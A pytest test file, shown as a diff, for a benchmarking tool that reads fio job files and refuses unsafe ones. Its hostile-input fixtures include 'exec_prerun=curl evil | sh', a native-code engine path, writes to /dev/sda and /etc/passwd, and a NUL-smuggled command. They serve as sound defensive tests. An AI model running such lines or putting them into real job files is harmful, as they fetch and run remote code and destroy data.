@@ -1,0 +1,522 @@
+"""fio job files as suites (src/iobench/suites/jobfile.py): fio's own examples, read as fio
+reads them; real fio runs of some of them; hostile job files refused whole, nothing run.
+
+fio's examples come from Debian's fio-examples package (scripts/setup.sh --dev installs it).
+"""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import time
+from pathlib import Path
+
+import pytest
+
+from conftest import Cli
+from iobench.errors import ExitCode, SuiteError
+from iobench.model import Suite
+from iobench.suites import (
+    apply_overrides,
+    load_suite,
+    load_suite_file,
+    parse_job_file,
+    parse_suite,
+)
+from iobench.suites.jobfile import fio_bytes, fio_microseconds
+
+EXAMPLES = Path("/usr/share/doc/fio/examples")
+NEEDS_EXAMPLES = pytest.mark.skipif(
+    not (EXAMPLES / "ssd-test.fio").exists(),
+    reason="fio's examples are not installed (scripts/setup.sh --dev installs fio-examples)",
+)
+# The examples that load (the others are refused, each with its reasons).
+LOADING = {
+    "fio-rand-RW.fio",
+    "fio-rand-read.fio",
+    "fio-rand-write.fio",
+    "fio-seq-RW.fio",
+    "fio-seq-read.fio",
+    "fio-seq-write.fio",
+    "iometer-file-access-server.fio",
+    "jesd219.fio",
+    "ssd-test.fio",
+}
+
+
+def _examples() -> list[str]:
+    return sorted(p.name for p in EXAMPLES.glob("*.fio")) or ["(none installed)"]
+
+
+def load(text: str, name: str = "job.fio") -> Suite:
+    return parse_job_file(text, name, name)
+
+
+def refused(text: str, name: str = "job.fio") -> list[tuple[int | None, str]]:
+    """Every problem of a job file that is refused, as (line, message)."""
+    with pytest.raises(SuiteError) as info:
+        load(text, name)
+    assert info.value.exit_code == ExitCode.BAD_INPUT
+    return [(p.line, p.message) for p in info.value.problems]
+
+
+# --- fio's own examples ----------------------------------------------------------------------
+
+
+@NEEDS_EXAMPLES
+@pytest.mark.parametrize("name", _examples())
+def test_every_fio_example_loads_or_is_refused_naming_file_and_line(name: str) -> None:
+    path = EXAMPLES / name
+    lines = path.read_text().count("\n") + 1
+    try:
+        suite = load_suite_file(path)
+    except SuiteError as e:
+        assert name not in LOADING, e.message
+        assert e.message.startswith(f"{path}:") or e.message.startswith(f"{path} has ")
+        assert all(p.line is not None and 1 <= p.line <= lines for p in e.problems), e.message
+        return
+    assert name in LOADING
+    assert suite.name == path.stem
+    assert suite.workloads and suite.source == str(path)
+
+
+@NEEDS_EXAMPLES
+def test_ssd_test_becomes_its_four_jobs_with_the_target_replaced() -> None:
+    suite = load_suite("/usr/share/doc/fio/examples/ssd-test.fio")
+    assert (suite.name, suite.description) == ("ssd-test", "")
+    assert [w.name for w in suite.workloads] == ["seq-read", "rand-read", "seq-write", "rand-write"]
+    assert [w.rw for w in suite.workloads] == ["read", "randread", "write", "randwrite"]
+    for w in suite.workloads:
+        assert (w.bs, w.iodepth, w.numjobs, w.ioengine, w.direct) == (4096, 4, 1, "libaio", True)
+        assert (w.size, w.runtime_s) == (10 << 30, 60.0)
+        assert w.options == (("time_based", "0"),)  # fio's default: size or runtime, first
+    (note,) = suite.notes
+    assert note.message == (
+        'the job file names where fio would do its I/O (directory="/mount-point-of-ssd" '
+        '(line 20) and filename="ssd.test.file" (line 21)); iobench runs every job on the '
+        "target named on its command line instead"
+    )
+
+
+@NEEDS_EXAMPLES
+def test_a_global_name_option_names_the_job_as_fio_does() -> None:
+    (w,) = load_suite_file(EXAMPLES / "fio-rand-read.fio").workloads
+    assert (w.name, w.rw, w.direct, w.runtime_s, w.size, w.iodepth) == (
+        "fio-rand-read",
+        "randread",
+        False,
+        900.0,
+        10 << 30,
+        16,
+    )
+    assert dict(w.options) == {}  # time_based: iobench's default, so no option
+
+
+@NEEDS_EXAMPLES
+def test_a_global_description_describes_the_suite() -> None:
+    suite = load_suite_file(EXAMPLES / "iometer-file-access-server.fio")
+    assert suite.description == "Emulation of Intel IOmeter File Server Access Pattern"
+    (w,) = suite.workloads
+    assert (
+        dict(w.options)["bssplit"] == "512/10:1024/5:2048/5:4096/60:8192/2:16384/4:32768/4:65536/10"
+    )
+    assert [n.message for n in suite.notes] == [
+        "iometer set no runtime, which fio reads as no time limit; iobench stops each after "
+        "60s at the latest"
+    ]
+
+
+@NEEDS_EXAMPLES
+def test_jobs_fio_runs_together_are_refused_with_the_stonewall_to_add() -> None:
+    with pytest.raises(SuiteError) as info:
+        load_suite_file(EXAMPLES / "aio-read.fio")
+    (problem,) = info.value.problems
+    assert problem.line == 13
+    assert problem.message.startswith(
+        "[file1] (line 10), [file2] (line 13), [file3] (line 16) and [file4] (line 19) run at "
+        "the same time under fio"
+    )
+    assert "add stonewall to [file2], [file3] and [file4]" in problem.message
+
+
+@NEEDS_EXAMPLES
+def test_a_trailing_comment_is_cut_and_the_one_unknown_option_reported() -> None:
+    # tiobench-example.fio: "numjobs=4\t; 4 simultaneous threads", timeout= (runtime), and
+    # bsrange=, which iobench does not take.
+    with pytest.raises(SuiteError) as info:
+        load_suite_file(EXAMPLES / "tiobench-example.fio")
+    assert [(p.line, p.message) for p in info.value.problems] == [
+        (7, '[global]: unknown option "bsrange" (docs/suites.md lists every accepted option)')
+    ]
+
+
+@NEEDS_EXAMPLES
+def test_wait_for_the_job_before_is_an_order_iobench_keeps() -> None:
+    with pytest.raises(SuiteError) as info:
+        load_suite_file(EXAMPLES / "waitfor.fio")
+    messages = [p.message for p in info.value.problems]
+    assert '[global]: unknown option "threads" (docs/suites.md lists every accepted option)' in (
+        messages
+    )
+    assert not any("same time" in m for m in messages)
+
+
+@NEEDS_EXAMPLES
+@pytest.mark.parametrize(
+    ("name", "line", "message"),
+    [
+        (
+            "exec.fio",
+            6,
+            '[monitoring_noop]: ioengine "exec" is refused: it runs an arbitrary program',
+        ),
+        ("dfs.fio", 3, "[global]: pool: ${VAR} is refused: fio replaces it with an environment"),
+        ("ssd-steadystate.fio", 36, "[random-write-steady]: write_bw_log is refused: it writes"),
+        ("backwards-read.fio", 6, "[backwards-read]: rw must be one of randread, randrw, randtr"),
+    ],
+)
+def test_notable_examples_are_refused_for_their_reason(name: str, line: int, message: str) -> None:
+    with pytest.raises(SuiteError) as info:
+        load_suite_file(EXAMPLES / name)
+    assert any(p.line == line and p.message.startswith(message) for p in info.value.problems), [
+        (p.line, p.message) for p in info.value.problems
+    ]
+
+
+# --- real fio ------------------------------------------------------------------------------------
+
+
+@NEEDS_EXAMPLES
+def test_fio_examples_run_as_suites(cli: Cli, real_fio: str, tmp_path: Path) -> None:
+    for name, workloads in (
+        ("ssd-test.fio", ["seq-read", "rand-read", "seq-write", "rand-write"]),
+        ("fio-rand-read.fio", ["fio-rand-read"]),  # time_based, runtime=900: 500ms here
+    ):
+        code, out, err = cli(
+            "run", str(tmp_path), "--suite", str(EXAMPLES / name), "--size", "8M",
+            "--runtime", "500ms", "--json",
+        )  # fmt: skip
+        assert code == 0, err
+        doc = json.loads(out)
+        assert (doc["status"], doc["suite"]) == ("complete", Path(name).stem)
+        assert [r["workload"] for r in doc["results"]] == workloads
+        assert all(r["status"] == "ok" for r in doc["results"])
+        assert "job-file" in {w["id"] for w in doc["warnings"]}  # a filename, or no runtime
+        code, out, err = cli("export", str(doc["run_id"]), "--format", "json")
+        for result in json.loads(out)["results"]:
+            assert "\nfilename=target\n" in result["job_file"]
+            assert "mount-point-of-ssd" not in result["job_file"]
+        assert list(tmp_path.iterdir()) == []  # the test file is gone
+
+
+def test_sizes_are_read_as_fio_reads_them(real_fio: str, tmp_path: Path) -> None:
+    """fio's own reading of each size (null engine: size= bytes are read, in bs=8 blocks)
+    is what iobench reads, KiB as 1000 bytes included."""
+    values = {
+        1024: [("4KiB", 8), ("4k", 8), ("4kb", 8), ("4KB", 8), ("1MiB", 64), ("1m", 64)],
+        1000: [("4k", 8), ("4KiB", 8), ("1m", 64), ("1MiB", 64)],
+    }
+    values[1024] += [("0x1000", 8), ("520", 8), ("512b", 8)]
+    text = "".join(
+        f"[s{base}-{i}]\nioengine=null\nrw=read\nbs={bs}\nkb_base={base}\nsize={value}\n"
+        for base, sizes in values.items()
+        for i, (value, bs) in enumerate(sizes)
+    )
+    job = tmp_path / "sizes.fio"
+    job.write_text(text)
+    out = subprocess.run(
+        [real_fio, "--output-format=json", str(job)],
+        capture_output=True,
+        text=True,
+        check=True,
+        cwd=tmp_path,
+    ).stdout
+    read = {j["jobname"]: j["read"]["io_bytes"] for j in json.loads(out)["jobs"]}
+    for base, sizes in values.items():
+        for i, (value, _) in enumerate(sizes):
+            assert fio_bytes(value, base) == read[f"s{base}-{i}"], (value, base)
+    # iobench runs neither null nor jobs side by side: one workload's size at a time
+    for section in text.replace("ioengine=null\n", "").split("[")[1:]:
+        (w,) = load("[" + section).workloads
+        assert w.size == read[w.name]
+
+
+def test_new_group_alone_lets_fio_run_jobs_together(real_fio: str, tmp_path: Path) -> None:
+    """Why new_group is no order: fio starts both jobs at once (0.5 s each, 0.5 s in all)."""
+    job = tmp_path / "groups.fio"
+    job.write_text(
+        "[global]\nioengine=null\nsize=1m\ntime_based\nruntime=500ms\n[a]\n[b]\nnew_group\n"
+    )
+    start = time.monotonic()
+    subprocess.run([real_fio, "--output-format=json", str(job)], capture_output=True, check=True)
+    assert time.monotonic() - start < 0.95
+    ((line, message),) = refused(job.read_text().replace("ioengine=null\n", ""))
+    assert line == 6
+    assert "(new_group starts a new reporting group, but fio still runs the jobs together)" in (
+        message
+    )
+
+
+# --- reading the text -------------------------------------------------------------------------
+
+
+def test_fio_units() -> None:
+    assert [fio_bytes(v) for v in ("4k", "4K", "4kb", "4KiB", "10g", "1p", "0x10", "7")] == [
+        4096, 4096, 4096, 4000, 10 << 30, 1 << 50, 16, 7,
+    ]  # fmt: skip
+    assert [fio_bytes(v, 1000) for v in ("4k", "4KiB", "1m")] == [4000, 4096, 1000000]
+    for bad in ("1.5g", "4 k", "4x", "4kibx", "-1", "4k,8k", "50%", ""):
+        with pytest.raises(ValueError):
+            fio_bytes(bad)
+    assert fio_microseconds("60", 10**6) == 60 * 10**6
+    assert [fio_microseconds(v, 10**6) for v in ("2m", "1h", "500ms", "20us", "1d")] == [
+        120 * 10**6, 3600 * 10**6, 500_000, 20, 86400 * 10**6,
+    ]  # fmt: skip
+    for bad in ("1.5s", "1min", "60sec", "1m30s"):
+        with pytest.raises(ValueError):
+            fio_microseconds(bad, 10**6)
+
+
+def test_globals_apply_to_the_jobs_after_them_and_add_up() -> None:
+    suite = load(
+        "; first\n[global]\nbs=8k\nruntime=30\nsize=64m\n[a]\nrw=randread\n"
+        "[global]\niodepth=8\nblocksize=16k\n[b]\nstonewall\nreadwrite=randrw\nrwmixwrite=30\n"
+        "buffered=0\nramp_time=2s\ntimeout=1m\ntime_based\n"
+    )
+    a, b = suite.workloads
+    assert (a.name, a.rw, a.bs, a.iodepth, a.runtime_s, a.size) == (
+        "a",
+        "randread",
+        8192,
+        1,
+        30.0,
+        64 << 20,
+    )
+    assert (a.ioengine, a.direct, a.options) == ("psync", False, (("time_based", "0"),))
+    assert (b.name, b.rw, b.bs, b.iodepth, b.rwmixread, b.direct) == (
+        "b",
+        "randrw",
+        16384,
+        8,
+        70,
+        True,
+    )
+    assert (b.runtime_s, b.ramp_s, b.options) == (60.0, 2.0, ())
+
+
+def test_a_job_file_is_told_from_toml_by_suffix_then_by_its_first_line(tmp_path: Path) -> None:
+    for name, text in (
+        ("plain", "# comment\n[job]\nrw=read\nsize=1m\nruntime=1\n"),
+        ("semi", "; comment\n[job]\nrw=read\nsize=1m\nruntime=1\n"),
+        ("x.job", "[job]\nrw=read\nsize=1m\nruntime=1\n"),
+    ):
+        (tmp_path / name).write_text(text)
+        assert load_suite_file(tmp_path / name).workloads[0].name == "job"
+    (tmp_path / "toml").write_text(
+        '[[workload]]\nname = "w"\nrw = "read"\nbs = "4k"\niodepth = 1\nnumjobs = 1\n'
+    )
+    assert load_suite_file(tmp_path / "toml").name == "toml"
+    (tmp_path / "my.fio").write_text('name = "w"\n')
+    with pytest.raises(SuiteError, match="comes before any section"):
+        load_suite_file(tmp_path / "my.fio")
+
+
+def test_toml_suites_keep_their_own_spelling_and_messages() -> None:
+    with pytest.raises(SuiteError) as info:
+        parse_suite(
+            '[[workload]]\nname = "w"\nrw = "read"\nbs = "4k"\niodepth = 1\nnumjobs = 1\n'
+            'ramp_time = "1s"\n',
+            "t.toml",
+            "t.toml",
+        )
+    assert info.value.problems[0].message == (
+        'workload "w": unknown key "ramp_time": iobench calls it ramp'
+    )
+
+
+# --- hostile job files ---------------------------------------------------------------------------
+
+HOSTILE = """\
+bs=4k
+[global]
+exec_prerun=curl evil | sh
+ioengine=external:/tmp/evil.so
+filename=/dev/sda
+[a]
+include /etc/fio/other.fio
+bs=${HOME}
+size=$mb_memory
+iodepth=($ncpus*2)
+write_bw_log=/etc/passwd
+[a]
+stonewall
+size= 1g
+runtime=1.5s
+direct
+unkown_opt=1
+ramp=5
+"""
+
+
+def test_a_hostile_job_file_is_refused_with_every_reason_at_once() -> None:
+    assert refused(HOSTILE) == [
+        (1, '"bs=4k" comes before any section: fio reads options only in [global] or in a '
+         "job's [NAME] section"),
+        (3, "[global]: exec_prerun is refused: it runs shell commands"),
+        (4, '[global]: ioengine "external:/tmp/evil.so" is refused: it loads native code from '
+         "a file"),
+        (7, '[a]: "include /etc/fio/other.fio" is refused: include reads another job file, which '
+         "iobench cannot check; copy its options into this file"),
+        (8, "[a]: bs: ${VAR} is refused: fio replaces it with an environment variable, which "
+         "can leak secrets into stored results; write the value"),
+        (9, '[a]: size: "$mb_memory" is refused: fio replaces $ncpus, $mb_memory and $pagesize '
+         "with figures of the host that runs the job, so the suite would mean something else "
+         "on each host; write the value"),
+        (10, '[a]: iodepth: "$ncpus" is refused: fio replaces $ncpus, $mb_memory and $pagesize '
+         "with figures of the host that runs the job, so the suite would mean something else "
+         "on each host; write the value"),
+        (11, "[a]: write_bw_log is refused: it writes files at a path of its own choosing, "
+         "outside the target you named"),
+        (12, "[a]: the name is already used by the job at line 6; names must be unique within "
+         "a suite"),
+        (14, "[a]: size= is followed by a blank, which fio misreads (size= 1g is 1 byte to it, "
+         "rw= read is refused); write size=1g"),
+        (15, "[a]: runtime takes whole numbers only: fio reads \"1.5s\" up to the '.' (1.5s is "
+         "1s to it); write the value in a smaller unit"),
+        (16, "[a]: direct needs a value: direct=..."),
+        (17, '[a]: unknown option "unkown_opt" (docs/suites.md lists every accepted option)'),
+        (18, '[a]: unknown option "ramp"; fio calls it ramp_time'),
+    ]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("text", "line", "message"),
+    [
+        ("[j]\nrw=read\0;exec_prerun=id\n", 2, "the line holds the control character U+0000 "
+         "(a NUL byte); a job file is text"),
+        ("[j]\nrw=read\x1b[2J\n", 2, "the line holds the control character U+001B; a job "
+         "file is text"),
+        ("[j]\nrw=" + "r" * 100_000 + "\n", 2, "a line of 100003 characters is too long (at "
+         "most 4096)"),
+        ("[séq]\nrw=read\n", 1, "job #1: name must be 1-64 letters, digits, '.', '_' or '-', "
+         'starting with a letter or digit; not "séq"'),
+        ("[j\nrw=read\n[j2]\n", 1, 'a section header is [NAME] alone on its line, not "[j"'),
+        ("[global]\nbs=4k\n", None, "no workloads: add a job section: [NAME] followed by its "
+         "options"),
+        ("[j]\nfilename_format=${HOME}/x\nrw=readx\n", 3, "[j]: rw must be one of randread, "
+         "randrw, randtrim, randwrite, read, readwrite, rw, trim, trimwrite, write; not "
+         '"readx"'),
+        ("[a]\n[b]\nwait_for=b\n", 3, '[b]: wait_for="b" names the job itself; fio waits '
+         "only for a job defined earlier in the file"),
+        ("[j]\nkb_base=1023\n", 2, '[j]: kb_base must be 1000 or 1024, not "1023"'),
+        ("[j]\nbs=4k,64k\n", 2, "[j]: bs=\"4k,64k\": values per direction or ranges (read,write "
+         "or low-high) are not supported; iobench runs one bs for every direction"),
+        ("[j]\ntime_based=yes\n", 2, "[j]: time_based must be 1 or 0 (or time_based alone "
+         'for 1), not "yes"'),
+        ("[j]\nsize=$SIZE\n", 2, '[j]: size: "$SIZE" is refused: fio expands only ${VAR} and '
+         "its own keywords, so a $VAR a shell would expand reaches fio as it is written; "
+         "write the value"),
+        ("[j]\nnumjobs=$ncpus\n", 2, '[j]: numjobs: "$ncpus" is refused: fio replaces $ncpus, '
+         "$mb_memory and $pagesize with figures of the host that runs the job, so the suite "
+         "would mean something else on each host; write the value"),
+    ],
+)  # fmt: skip
+def test_hostile_lines_are_refused_each_for_its_reason(
+    text: str, line: int | None, message: str
+) -> None:
+    problems = refused(text)
+    assert (line, message) in problems, problems
+
+
+def test_ten_thousand_sections_are_read_fast_and_refused_whole() -> None:
+    text = "".join(f"[j{i}]\nrw=read\nexec_prerun=x\n" for i in range(10_000))
+    start = time.monotonic()
+    with pytest.raises(SuiteError) as info:
+        load(text)
+    assert time.monotonic() - start < 5
+    problems = info.value.problems
+    assert len(problems) == 10_001  # each exec_prerun, and the jobs fio runs at once
+    assert problems[0].message == "[j0]: exec_prerun is refused: it runs shell commands"
+    together = next(p for p in problems if "same time" in p.message)
+    assert together.message.startswith(
+        "[j0] (line 1), [j1] (line 4), [j2] (line 7), [j3] (line 10), [j4] (line 13) and 9995 "
+        "more run at the same time under fio"
+    )
+    assert info.value.message.endswith("  - and 9981 more")
+
+
+def test_where_fio_would_write_is_replaced_never_used() -> None:
+    suite = load(
+        "[j]\nfilename=/dev/sda\ndirectory=/etc\nopendir=/\nrw=write\nsize=1m\nruntime=1\n"
+    )
+    (w,) = suite.workloads
+    assert not any(k in ("filename", "directory", "opendir") for k, _ in w.options)
+    assert 'filename="/dev/sda" (line 2), directory="/etc" (line 3) and opendir="/" (line 4)' in (
+        suite.notes[0].message
+    )
+
+
+@pytest.fixture
+def fio_calls(fake_fio: None, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A file the fake fio on PATH appends to whenever it is started to run jobs."""
+    path = tmp_path / "fio-calls"
+    monkeypatch.setenv("FAKE_FIO_PIDFILE", str(path))
+    return path
+
+
+def test_run_refuses_a_hostile_job_file_before_anything_runs(
+    cli: Cli, tmp_path: Path, isolated_db: Path, fio_calls: Path
+) -> None:
+    target = tmp_path / "target"
+    target.mkdir()
+    path = tmp_path / "hostile.fio"
+    path.write_text(HOSTILE)
+    code, out, err = cli("run", str(target), "--suite", str(path))
+    assert code == ExitCode.BAD_INPUT and out == ""
+    assert err.startswith(f"iobench: error: {path} has 14 problems:\n    - {path}:1: ")
+    assert "Traceback" not in err
+    assert list(target.iterdir()) == [] and not isolated_db.exists() and not fio_calls.exists()
+
+
+# --- suites show -------------------------------------------------------------------------------
+
+
+@NEEDS_EXAMPLES
+def test_suites_show_a_job_file(cli: Cli) -> None:
+    path = EXAMPLES / "ssd-test.fio"
+    code, out, err = cli("suites", "show", str(path))
+    assert code == 0, err
+    assert out.startswith("ssd-test")
+    assert "rand-write" in out and "time_based=0" in out
+    assert "info [job-file]" in out and 'filename="ssd.test.file" (line 21)' in out
+    code, out, _ = cli("suites", "show", str(path), "--json")
+    doc = json.loads(out)
+    assert doc["kind"] == "suites"
+    (suite,) = doc["suites"]
+    assert suite["name"] == "ssd-test" and len(suite["workloads"]) == 4
+    assert (
+        suite["notes"][0]["fix"] == "nothing to do: the target is what `iobench run TARGET` names"
+    )
+
+
+def test_suites_show_refuses_a_bad_file_and_lists_builtins_without_one(
+    cli: Cli, tmp_path: Path
+) -> None:
+    path = tmp_path / "bad.fio"
+    path.write_text("[a]\n[b]\n")
+    code, out, err = cli("suites", "show", str(path))
+    assert code == ExitCode.BAD_INPUT and out == ""
+    assert err.startswith(
+        f"iobench: error: {path}:2: [a] (line 1) and [b] (line 2) run at the same time"
+    )
+    code, out, _ = cli("suites", "show", "quick")
+    assert code == 0 and out.startswith("quick: ")
+    code, out, _ = cli("suites", "--json")
+    assert code == 0 and {"quick", "standard"} <= {s["name"] for s in json.loads(out)["suites"]}
+
+
+def test_a_note_about_runtime_or_size_goes_when_the_user_gives_one() -> None:
+    suite = load("[j]\nrw=read\n")
+    assert [n.about for n in suite.notes] == ["runtime", "size"]
+    assert [n.about for n in apply_overrides(suite, size=1 << 20).notes] == ["runtime"]
+    assert apply_overrides(suite, size=1 << 20, runtime_s=2).notes == ()
